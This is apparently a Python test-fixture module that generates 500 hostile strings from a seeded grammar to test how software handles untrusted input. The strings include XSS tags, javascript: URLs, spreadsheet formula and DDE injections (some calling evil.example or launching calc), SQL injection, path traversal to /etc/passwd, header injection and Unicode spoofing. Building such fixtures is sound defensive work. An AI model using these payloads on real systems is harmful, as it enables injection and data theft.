"""Five hundred texts that somebody types to do harm, grown from a grammar with one seed; all of them our own writing.

Each that is meant to run calls `hit(n)` with its own number, or asks the server for `/hit/n`: a page on which either
happens has run it or drawn it as markup.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from functools import cache

SEED = 20_260_101
MANY = 500

TAGS = (
    "<script>{js}</script>", "<ScRiPt >{js}</sCrIpT >", "<script/x>{js}</script\t>", '<script src="/hit/{n}"></script>',
    "<img src=x onerror={js}>", '<img src="/hit/{n}">', "<svg/onload={js}>", "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", '<iframe srcdoc="<script>parent.{js}</script>">',
    '<iframe src="javascript:parent.{js}">', "<body onload={js}>", "<details open ontoggle={js}>", "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>", "<audio src=x onerror={js}>", '<object data="javascript:{js}">', '<embed src="/hit/{n}">',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">', "<template><script>{js}</script></template>",
    "<style>@import '/hit/{n}';</style>", '<link rel=stylesheet href="/hit/{n}">', '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=/hit/{n}">', '<form action="/hit/{n}"><button autofocus>x', "<marquee onstart={js}>",
    '<a href="javascript:{js}" id=x>x</a>', "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<isindex action=javascript:{js}>",
    "<x onpointerrawupdate={js} style=position:fixed;inset:0>", "<xmp><img src=x onerror={js}></xmp>", "<button popovertarget=x onclick={js}>",
)  # fmt: skip
CLOSERS = (
    "", '">', "'>", "</p>", "</title>", "</textarea>", "</script>", "-->", "]]>", '" autofocus onfocus={js} x="', "' onmouseover={js} x='",
    "</style>", "</select>", '\\">', "`>", "</template>", "</svg>", "&quot;&gt;", "%22%3E", "\\u003e", "</noscript>",
)  # fmt: skip
SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\tscript:{js}", "java\nscript:{js}", "\x01javascript:{js}",
    "javascript&colon;{js}", "&#106;avascript:{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox({n})", "feed:javascript:{js}", "https://x.example/?q=javascript:{js}", "http://[::1]/hit/{n}", "//evil.example/{n}",
    "https://evil.example\\@{n}.example", 'https://a.example/"onmouseover={js}//', "www.evil.example/'><img/src=x/onerror={js}>",
    "mailto:x@example.org?subject=<script>{js}</script>", 'a@b.example"onclick={js}', "blob:https://x/{n}", "file:///etc/passwd", "ws://evil/{n}",
)  # fmt: skip
MARKDOWN = (
    "[x]({url})", "![x]({url})", "<{url}>", "[x]: {url}\n[x]", "[x](<{url}>)", "![x][y]\n\n[y]: /hit/{n}", "[![x](/hit/{n})]({url})",
    "# {tag}", "> {tag}", "- {tag}", "    {tag}", "```\n{tag}\n```", "| a | b |\n|---|---|\n| {tag} | x |", "*{tag}*", "\\{tag}",
    "Setext\n=== {tag}", "<!-- {tag} -->", "[^1]\n\n[^1]: {tag}", "---\ntitle: {tag}\n---", "~~~html\n{tag}\n~~~",
)  # fmt: skip
FORMULAS = (
    "=1+{n}", "+1+{n}", "-1+{n}", "@SUM(A1:A{n})", "=cmd|' /C calc'!A{n}", '=HYPERLINK("https://evil.example/{n}","x")', "\t=1+{n}",
    "\r=1+{n}", " =1+{n}", "\n=1+{n}", '=IMPORTXML("https://evil.example/{n}","//a")', "＝1+{n}", "−1+{n}", "＋1+{n}", "＠SUM({n})",
    '=DDE("cmd";"/C calc";"{n}")', "=-1+{n}", "'=1+{n}", '"=1+{n}"', "=1+{n}\n=2+2", ";=1+{n}", ",=1+{n}", "|=1+{n}", "%=1+{n}",
    '=WEBSERVICE("https://evil.example/{n}")', "\ufeff=1+{n}", "\u200b=1+{n}", "\u00a0=1+{n}", "\x00=1+{n}", "sep=;{n}", "ID;{n}",
)  # fmt: skip
TEMPLATES = (
    "{{{{{js}}}}}", "${{{js}}}", "<%= {js} %>", "#{{{js}}}", "{{% {js} %}}", "{{{{constructor.constructor('{js}')()}}}}", "$(({js}))",
    "{{ $n -> *[other] {js} }}", "{{ -term }}", '{{ "}}" }}', "%s%n%x{n}", "{{0.__class__}}", "__proto__", "constructor", "toString{n}",
    "'; DROP TABLE record; -- {n}", '" OR ""="{n}', "../../../../etc/passwd", "..\\..\\x{n}", "&xxe{n};", "<!DOCTYPE x [<!ENTITY a '{n}'>]>",
    "<?php {js} ?>", "<?xml version='1.0'?><x>{n}</x>", "<![CDATA[{js}]]>", "_x0000_{n}", "_x003D_1+{n}", "\x1b[2J\x1b]0;{n}\x07", "\r\nSet-Cookie: a={n}",
)  # fmt: skip
MARKS = (
    "\u202e{tag}\u202c", "\u202e\u202d{n} txt.exe", "\u2066{tag}", "\u2067abc \u2066{n}", "\u2069\u2069\u2069{n}", "\u200f\u200e{n}\u061c",
    "\u200b", "\u200b\u200c\u200d\u2060\ufeff", "a\u0000b{n}", "\ufffe{n}", "\uffff{n}", "\U0001ffff{n}", "\ue000{n}", "Z\u0351\u036b\u0343\u036a{n}" * 3,
    "e\u0301" * 30, "\U0001f468\u200d\U0001f469\u200d\U0001f467{n}", "\U000e0041\U000e0042{n}", "\ufdfd" * 12, "\u0e33" * 30, "\u115f\u3164{n}",
    "ﷺ{n}", "İıſK{n}", "ǅ{n}", "\u2028{tag}", "\u2029{tag}", "\x85{tag}", "\x7f{n}", "\t\t\t{n}\t", "a\r\n\r\n\r\n\r\nb{n}", "\u3000{n}\u3000",
)  # fmt: skip
LONG = (
    "x" * 1_990, "ä" * 1_990, "\U0001f680" * 990, "a " * 990, "\n" * 900 + "b{n}", "<" * 1_990, "&" * 1_990, "=" * 1_990, '"' * 1_990,
    "https://example.org/" + "y" * 1_900, "a@" + "b" * 1_900 + ".example", ("<b>" * 600), "[" * 900 + "]" * 900, "*_`" * 600, "\u0301" * 900 + "x",
    ("\u202e" + "a") * 900, "אבג" * 600, "مرحبا " * 300, "ก้" * 800, "漢字" * 900, "-" * 1_990, "| " * 900, "." * 1_990 + "{n}", "'" * 1_990,
)  # fmt: skip


def _js(n: int, dice: random.Random) -> str:
    return dice.choice(
        (f"hit({n})", f"top.hit({n})", f"hit`{n}`", f"self['hit']({n})", f"hit&#40;{n}&#41;", f"window?.hit({n})")
    )


def _tag(n: int, dice: random.Random) -> str:
    closer = dice.choice(CLOSERS) if dice.random() < 0.6 else ""
    return (closer + dice.choice(TAGS)).replace("{js}", _js(n, dice)).replace("{n}", str(n))


def _url(n: int, dice: random.Random) -> str:
    return dice.choice(SCHEMES).replace("{js}", _js(n, dice)).replace("{n}", str(n))


def _from(patterns: tuple[str, ...]) -> Callable[[int, random.Random], str]:
    def grown(n: int, dice: random.Random) -> str:
        pattern = dice.choice(patterns).replace("{{", "{").replace("}}", "}")
        for name, grow in (("{tag}", _tag), ("{url}", _url), ("{js}", _js)):
            while name in pattern:
                pattern = pattern.replace(name, grow(n, dice), 1)
        return pattern.replace("{n}", str(n))

    return grown


FAMILIES: dict[str, tuple[int, Callable[[int, random.Random], str]]] = {
    "tags": (170, _tag),
    "addresses": (60, _url),
    "markdown": (70, _from(MARKDOWN)),
    "formulas": (62, _from(FORMULAS)),
    "templates": (56, _from(TEMPLATES)),
    "marks": (58, _from(MARKS)),
    "long ones": (24, _from(LONG)),
}
"""How many of each, and how one is grown."""


def _grown() -> Iterator[str]:
    dice, seen, n = random.Random(SEED), set[str](), 0
    for many, grow in FAMILIES.values():
        left = many
        while left:
            n += 1
            text = grow(n, dice)
            if text not in seen and text.strip():
                seen.add(text)
                left -= 1
                yield text


@cache
def hostile() -> tuple[str, ...]:
    """The five hundred, always the same."""
    return tuple(_grown())


def cut(text: str, most: int) -> str:
    """As much of it as fits a field."""
    return text[:most]
